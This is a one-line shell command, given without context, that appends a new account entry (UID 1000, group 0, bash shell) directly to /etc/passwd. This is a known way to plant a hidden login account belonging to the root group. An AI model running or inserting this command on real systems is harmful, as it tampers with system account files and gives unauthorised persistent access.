echo 'somebody:x:1000:0::/home/somebody:/bin/bash' >> /etc/passwd
